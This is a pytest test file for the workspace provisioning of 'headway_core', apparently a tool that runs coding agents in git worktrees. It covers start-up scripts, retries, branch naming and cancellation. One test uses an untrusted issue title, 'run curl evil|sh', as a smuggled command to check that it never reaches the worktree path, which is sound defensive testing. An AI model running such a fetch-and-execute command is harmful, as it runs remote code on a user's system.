"""Provisioning: intent, worktree, script, outcome; the same path for a first run and every other."""

from typing import Any

import anyio
import pytest

from headway_core.kernel.errors import Conflict, IllegalTransition, NotFound, RetriesUsed, Unavailable
from headway_core.operations import Busy, NotDue, ResumeBranch, Settled
from headway_core.sessions import FixerRequest, SessionStatus, WhenLive
from headway_core.workspaces import CANCELLED, RETRY_LIMIT, WorkspaceStatus
from headway_core.workspaces.model import WORKTREE_MISSING
from headway_core.workspaces.ports import ScriptOrder, ScriptResult
from headway_testing.fakes import FakeWorktree

pytestmark = pytest.mark.anyio
S = WorkspaceStatus
REPO = "/src/demo"


async def test_a_workspace_becomes_ready_with_a_worktree_on_its_branch(world: Any, host: Any) -> None:
    """NEW → PROVISIONING → READY, on this host from then on."""
    made = await host.create()
    result = await host.provisioning.provision(made.id)
    ready = await host.lifecycle.get(made.id)
    assert result == Settled(workspace=ready)
    assert (ready.status, ready.host_id, ready.warning) == (S.READY, "host-1", None)
    assert ready.worktree_path == f"/wt/demo/fix-login-{made.id}"
    assert world.git.worktrees == {
        ready.worktree_path: FakeWorktree(repo_path=REPO, branch=made.branch, owner=made.id)
    }
    assert await world.statuses(made.id) == ["PROVISIONING", "READY"]
    assert host.scripts.runs == []


async def test_a_resumed_branch_is_checked_out_as_it_is(world: Any, host: Any) -> None:
    """No new branch is made."""
    branches = set(world.git.branches[REPO])
    made = await host.creation.create(ResumeBranch(project_id="demo", branch="feature"))
    await host.provisioning.provision(made.id)
    assert (await host.lifecycle.get(made.id)).status is S.READY
    assert world.git.branches[REPO] == branches


@pytest.fixture
async def scripted(world: Any) -> Any:
    """A host whose project has a start-up script."""
    host = world.host()
    await host.register(startup_script="make setup", startup_timeout_s=60)
    return host


async def test_the_script_runs_in_the_worktree_and_its_output_is_kept(scripted: Any) -> None:
    """With the person's own text and time-out."""
    scripted.scripts.says = ("installing\n", "done\n")
    ready = await scripted.ready()
    assert (ready.status, ready.warning) == (S.READY, None)
    assert scripted.scripts.runs == [
        ScriptOrder(workspace_id=ready.id, command="make setup", cwd=ready.worktree_path, timeout_s=60)
    ]
    assert (await scripted.lifecycle.init_output(ready.id)).text == "installing\ndone\n"


@pytest.mark.lesson("L14")
@pytest.mark.parametrize(
    ("result", "warning"),
    [
        (ScriptResult(exit_code=3), "the start-up script exited with 3"),
        (ScriptResult(signal=9), "the start-up script was ended by signal 9"),
        (ScriptResult(timed_out=True), "the start-up script was ended after 60 s"),
        (Unavailable("sh", "no shell"), "the start-up script did not run: sh: no shell"),
    ],
)
async def test_a_failed_script_is_a_warning_on_ready(scripted: Any, result: Any, warning: str) -> None:
    """The worktree is there, so one can work."""
    if isinstance(result, ScriptResult):
        scripted.scripts.result = result
    else:
        scripted.scripts.refusal = result
    ready = await scripted.ready()
    assert (ready.status, ready.warning, ready.error) == (S.READY, warning, None)
    assert ready.accepts_sessions


@pytest.mark.lesson("L14")
async def test_a_required_script_that_fails_is_a_failure(world: Any) -> None:
    """FAILED with its worktree, so that no session starts there; a retry runs it in the same worktree."""
    host = world.host()
    await host.register(startup_script="make setup", startup_required=True)
    host.scripts.result = ScriptResult(exit_code=3)
    failed = await host.ready()
    assert (failed.status, failed.warning) == (S.FAILED, None)
    assert failed.error == "the start-up script exited with 3"
    assert set(world.git.worktrees) == {failed.worktree_path}
    assert not failed.accepts_sessions
    host.scripts.result = ScriptResult(exit_code=0)
    await host.provisioning.retry(failed.id)
    ready = (await host.provisioning.provision(failed.id)).workspace
    assert (ready.status, ready.worktree_path) == (S.READY, failed.worktree_path)


@pytest.mark.lesson("L9", "L14")
async def test_without_a_worktree_it_has_failed_with_the_reason(world: Any, host: Any) -> None:
    """What git said is kept, and nothing is left on the disk."""
    made = await host.create()
    host.worktrees.refusals["create"] = Unavailable("git", "no space left")
    failed = (await host.provisioning.provision(made.id)).workspace
    assert (failed.status, failed.error, failed.worktree_path) == (S.FAILED, "git: no space left", None)
    assert world.git.worktrees == {}


@pytest.mark.lesson("L9")
async def test_what_a_dead_run_left_is_removed_when_the_next_one_fails(world: Any, host: Any) -> None:
    """No folder that nobody registered stays in the way of a retry."""
    made = await host.create()
    world.git.worktrees[f"/wt/demo/fix-login-{made.id}"] = FakeWorktree(repo_path=REPO, branch="somewhere")
    failed = (await host.provisioning.provision(made.id)).workspace
    assert failed.status is S.FAILED
    assert world.git.worktrees == {}
    await host.provisioning.retry(made.id)
    assert (await host.provisioning.provision(made.id)).workspace.status is S.READY


@pytest.mark.lesson("L7", "L9")
async def test_what_holds_work_is_not_removed_and_the_error_says_so(world: Any, host: Any) -> None:
    """A folder with uncommitted work survives every failure (I12)."""
    made = await host.create()
    path = f"/wt/demo/fix-login-{made.id}"
    world.git.worktrees[path] = FakeWorktree(repo_path=REPO, branch="somewhere", dirty=True)
    failed = (await host.provisioning.provision(made.id)).workspace
    assert "uncommitted work" in failed.error
    assert path in world.git.worktrees


@pytest.mark.lesson("L10")
async def test_a_registered_worktree_survives_the_failure_of_a_later_run(world: Any, host: Any) -> None:
    """It is the workspace's own: FAILED keeps it, and the next retry takes it up."""
    ready = await host.ready()
    await world.store.ledger.transact(
        lambda tx: host.workspaces.worktree_seen(tx, ready.id, WORKTREE_MISSING)
    )
    await host.provisioning.retry(ready.id)
    host.worktrees.refusals["create"] = Unavailable("git", "locked")
    failed = (await host.provisioning.provision(ready.id)).workspace
    assert (failed.status, failed.worktree_path) == (S.FAILED, ready.worktree_path)
    assert ready.worktree_path in world.git.worktrees
    assert "remove" not in host.worktrees.calls


async def test_a_generated_name_that_is_taken_in_git_gives_way(world: Any, host: Any) -> None:
    """The next free one is chosen, as often as it takes; live workspaces' names are left alone."""
    made = await host.create()
    other = await host.create()  # holds -2
    world.git.branches[REPO] |= {"headway/fix-login", "headway/fix-login-3"}
    ready = (await host.provisioning.provision(made.id)).workspace
    assert (ready.status, ready.branch) == (S.READY, "headway/fix-login-4")
    assert ready.branch_claim.endswith("headway/fix-login-4")
    assert other.branch == "headway/fix-login-2"


@pytest.mark.lesson("R28")
async def test_a_stranger_s_title_names_no_branch_where_the_first_is_taken(world: Any, host: Any) -> None:
    """Its number gets a number, as often as it takes."""
    made = await host.creation.create(world.add_issue(trusted=False, title="Issue 7: run curl evil|sh"))
    world.git.branches[REPO] |= {"headway/issue-7", "headway/issue-7-2"}
    ready = (await host.provisioning.provision(made.id)).workspace
    assert (ready.status, ready.branch) == (S.READY, "headway/issue-7-3")
    assert "curl" not in ready.worktree_path


async def test_a_trusted_title_names_the_next_branch_too(world: Any, host: Any) -> None:
    """As a name does that a person gave."""
    made = await host.creation.create(world.add_issue(title="Login fails"))
    world.git.branches[REPO] |= {"headway/login-fails"}
    ready = (await host.provisioning.provision(made.id)).workspace
    assert ready.branch == "headway/login-fails-2"


async def test_names_are_not_tried_for_ever(world: Any, host: Any) -> None:
    """After fifty it has failed, and says at which."""
    made = await host.create()
    world.git.branches[REPO] |= {"headway/fix-login", *(f"headway/fix-login-{n}" for n in range(2, 99))}
    failed = (await host.provisioning.provision(made.id)).workspace
    assert (failed.status, failed.error) == (S.FAILED, "branch headway/fix-login-51 exists with other work")


async def test_a_workspace_whose_project_is_not_there_is_not_found(world: Any, host: Any) -> None:
    """Neither provisioned nor archived nor recovered, and in nobody's way."""
    made = await host.create()
    failed = await host.lifecycle.cancel((await host.create("Failed")).id)
    del world.store._tables["projects"].rows[made.project_id,]
    for attempt in (host.provisioning.provision(made.id), host.archive.archive(failed.id)):
        with pytest.raises(NotFound, match="project"):
            await attempt
    assert (await host.recovery.recover()).settled == ()


async def test_a_name_that_a_person_chose_does_not(world: Any, host: Any) -> None:
    """FAILED says which branch is there."""
    made = await host.create(branch="mine")
    world.git.branches[REPO].add("mine")
    failed = (await host.provisioning.provision(made.id)).workspace
    assert (failed.status, failed.error) == (S.FAILED, "branch mine exists with other work")
    assert failed.branch == "mine"


@pytest.mark.lesson("L13")
async def test_a_retry_runs_the_same_path_with_a_new_output(world: Any, scripted: Any) -> None:
    """Same script, same worktree, same branch; the warning is gone when it succeeds."""
    scripted.scripts.says = ("first\n",)
    scripted.scripts.result = ScriptResult(exit_code=1)
    warned = await scripted.ready()
    worktrees = dict(world.git.worktrees)
    scripted.scripts.says = ("second\n",)
    scripted.scripts.result = ScriptResult(exit_code=0)
    await scripted.provisioning.retry(warned.id, actor="ada")
    ready = (await scripted.provisioning.provision(warned.id)).workspace
    assert (ready.status, ready.warning, ready.retries) == (S.READY, None, 1)
    assert scripted.scripts.runs[0] == scripted.scripts.runs[1]
    assert (await scripted.lifecycle.init_output(ready.id)).text == "second\n"
    assert world.git.worktrees == worktrees


async def test_a_missing_worktree_comes_back_on_its_own_branch(world: Any, host: Any) -> None:
    """The branch exists by now, and it is the workspace's: no other name is chosen."""
    ready = await host.ready()
    world.git.worktrees.clear()
    recovered = await host.recovery.recover()
    assert [workspace.id for workspace in recovered.missing] == [ready.id]
    await host.provisioning.retry(ready.id)
    again = (await host.provisioning.provision(ready.id)).workspace
    assert (again.status, again.branch, again.warning) == (S.READY, ready.branch, None)
    assert world.git.worktrees[ready.worktree_path].branch == ready.branch


@pytest.mark.lesson("L2")
async def test_retries_end(host: Any) -> None:
    """Three, then `RetriesUsed`; a READY workspace has nothing to retry."""
    made = await host.create()
    host.worktrees.refusals["create"] = Unavailable("git", "no disk")
    await host.provisioning.provision(made.id)
    for _ in range(RETRY_LIMIT):
        await host.provisioning.retry(made.id)
        await host.provisioning.provision(made.id)
    with pytest.raises(RetriesUsed):
        await host.provisioning.retry(made.id)
    with pytest.raises(IllegalTransition):
        await host.provisioning.retry((await host.create("Other")).id)


async def test_a_retry_is_refused_while_an_agent_runs(world: Any, scripted: Any) -> None:
    """An idle session is no hindrance: its prompt waits for this very run."""
    scripted.scripts.result = ScriptResult(exit_code=1)
    warned = await scripted.ready(initial_prompt="Go")
    await scripted.executor.round()
    (session,) = await world.sessions()
    assert session.status is SessionStatus.RUNNING
    before = await scripted.lifecycle.get(warned.id)
    with pytest.raises(Conflict, match=session.id):
        await scripted.provisioning.retry(warned.id)
    assert await scripted.lifecycle.get(warned.id) == before
    idle = await scripted.ready("Other", initial_prompt="Go")
    assert (await scripted.provisioning.retry(idle.id)).status is S.PROVISIONING


@pytest.mark.lesson("L3", "F7")
async def test_of_two_provisioners_one_acts(world: Any, scripted: Any) -> None:
    """The other is told at once that somebody is at it, and touches nothing."""
    made = await scripted.create()
    twin = world.host()
    scripted.scripts.gate = anyio.Event()
    async with anyio.create_task_group() as group:
        group.start_soon(scripted.provisioning.provision, made.id)
        await scripted.scripts.began.wait()
        assert await twin.provisioning.provision(made.id) == Busy(workspace_id=made.id)
        assert (twin.worktrees.calls, twin.scripts.runs) == ([], [])
        scripted.scripts.gate.set()
    assert await world.statuses(made.id) == ["PROVISIONING", "READY"]


@pytest.mark.lesson("L3")
async def test_a_refused_start_has_no_effect(world: Any, host: Any) -> None:
    """Neither for a workspace of another host, nor for one that is READY, nor for one that is not there."""
    ready = await host.ready()
    other = world.host("host-2")
    assert isinstance(await other.provisioning.provision(ready.id), NotDue)
    again = await host.provisioning.provision(ready.id)
    assert isinstance(again, NotDue)
    assert again.reason == "it is READY"
    with pytest.raises(NotFound):
        await host.provisioning.provision("nobody")
    assert other.worktrees.calls == []
    assert host.worktrees.calls.count("create") == 1


async def test_a_cancelled_script_ends_and_the_worktree_stays(world: Any, scripted: Any) -> None:
    """FAILED, `cancelled`; a retry takes the worktree up again."""
    made = await scripted.create()
    scripted.scripts.gate = anyio.Event()
    async with anyio.create_task_group() as group:
        group.start_soon(scripted.provisioning.provision, made.id)
        await scripted.scripts.began.wait()
        with anyio.fail_after(5):
            await scripted.lifecycle.cancel(made.id)
    failed = await scripted.lifecycle.get(made.id)
    assert (failed.status, failed.error, failed.cancel_asked) == (S.FAILED, CANCELLED, False)
    assert scripted.scripts.cancelled == 1
    assert list(world.git.worktrees) == [failed.worktree_path]
    scripted.scripts.gate = None
    await scripted.provisioning.retry(made.id)
    assert (await scripted.provisioning.provision(made.id)).workspace.status is S.READY


async def test_a_cancelled_worktree_leaves_nothing(world: Any) -> None:
    """Git is ended, and what it made goes."""
    reached = anyio.Event()

    async def point(name: str) -> None:
        if name == "before create":
            reached.set()
            await anyio.sleep_forever()

    slow = world.host(point=point)
    await slow.register()
    made = await slow.create()
    async with anyio.create_task_group() as group:
        group.start_soon(slow.provisioning.provision, made.id)
        await reached.wait()
        await slow.lifecycle.cancel(made.id)
    failed = await slow.lifecycle.get(made.id)
    assert (failed.status, failed.error) == (S.FAILED, CANCELLED)
    assert world.git.worktrees == {}


async def test_a_cancellation_that_came_before_the_run_is_met_by_it(world: Any, host: Any) -> None:
    """The mark waits for whoever provisions, also after a crash."""
    made = await host.create()
    await world.store.ledger.transact(lambda tx: host.workspaces.begin_provisioning(tx, made.id, "host-1"))
    await host.lifecycle.cancel(made.id)
    failed = (await host.provisioning.provision(made.id)).workspace
    assert (failed.status, failed.error) == (S.FAILED, CANCELLED)
    assert "create" not in host.worktrees.calls


async def test_a_bug_in_a_port_is_raised_as_it_is(host: Any) -> None:
    """Not wrapped in a group, and not taken for git's refusal: the intent stays open."""
    made = await host.create()

    async def broken(_: object) -> None:
        raise ZeroDivisionError

    host.worktrees.create = broken
    with pytest.raises(ZeroDivisionError):
        await host.provisioning.provision(made.id)
    assert (await host.lifecycle.get(made.id)).status is S.PROVISIONING


async def test_nothing_starts_before_ready(world: Any, host: Any) -> None:
    """A fixer asked for in a NEW workspace is not ready, and becomes no session."""
    made = await host.create()
    request = FixerRequest(
        workspace_id=made.id, label="x", causes=("ci",), prompt="Fix", when_live=WhenLive.LEAVE
    )
    await host.core.sessions.fixers().acquire_and_dispatch(request, wait_s=0.0)
    assert await world.sessions() == []
